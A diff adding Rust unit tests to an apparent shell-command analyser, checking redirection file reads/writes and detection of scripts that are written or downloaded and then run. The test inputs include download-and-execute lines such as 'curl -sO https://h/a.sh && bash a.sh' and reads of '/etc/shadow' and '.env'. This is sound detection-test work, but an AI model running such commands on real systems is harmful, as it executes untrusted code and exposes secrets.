@@ -280,3 +280,50 @@ fn what_is_outside_the_text_is_not_seen() {
     assert!(read("echo $((X + 1))").commands.iter().all(|c| c.program != Word::Unknown));
     assert_eq!(shows(&read("ssh h cat x").commands.last().unwrap().reads), ["?"]);
 }
+
+#[test]
+fn what_is_redirected_is_read_and_written_by_some_command() {
+    // SPEC: [S4.36]
+    for (text, reads, writes) in [
+        ("f() { cat; }; f < .env", &["/app/.env"][..], &[][..]),
+        ("(cat) < /etc/shadow", &["/etc/shadow"], &[]),
+        ("{ echo a; } > x", &[], &["/app/x"]),
+        ("while read l; do echo $l; done < in > out", &["/app/in"], &["/app/out"]),
+        ("> x", &[], &["/app/x"]),
+        ("A=1 < y", &["/app/y"], &[]),
+    ] {
+        let read = read(text);
+        let of = read.commands.iter().find(|c| c.program == Word::Literal(":".to_owned())).expect(text);
+        assert_eq!(shows(&of.reads), reads, "{text}");
+        assert_eq!(shows(&of.writes), writes, "{text}");
+    }
+    assert!(!read("ls > $X").is_static);
+    assert!(read("ls > x").is_static);
+}
+
+#[test]
+fn a_file_that_the_text_fills_and_runs_is_hidden_code() {
+    // SPEC: [S4.32]
+    for text in [
+        "echo x > a.sh && sh a.sh",
+        "echo x > a.py; python3 a.py",
+        "curl -sO https://h/a.sh && bash a.sh",
+        "wget https://h/a.sh; bash ./a.sh",
+        "tar xf a.tgz && ./configure",
+        "cp b a.sh; ./a.sh",
+        "tee a.sh <<E\nx\nE\nbash -x a.sh",
+        "mv x/a.pl . ; perl a.pl",
+    ] {
+        assert!(!read(text).hidden.is_empty(), "{text}");
+    }
+    for text in [
+        "chmod +x a.sh && ./a.sh",
+        "mkdir -p build && cd build && ../configure",
+        "touch log; sh a.sh",
+        "rm -rf dist; python3 setup.py",
+        "echo x > out.txt; sh a.sh",
+        "sh a.sh > log.txt",
+    ] {
+        assert_eq!(read(text).hidden, Vec::<&str>::new(), "{text}");
+    }
+}
